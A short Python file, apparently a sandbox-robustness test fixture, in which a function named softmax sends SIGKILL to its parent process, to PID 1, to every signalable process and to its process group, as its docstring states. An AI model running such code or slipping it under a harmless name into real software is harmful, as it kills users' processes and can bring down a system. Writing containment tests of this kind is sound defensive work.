"""Tries to kill its parent, every process it can see, and the process group."""
import os
import signal

def softmax(x, axis=-1):
    for target in (os.getppid(), 1, -1, 0):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    raise RuntimeError("still alive")
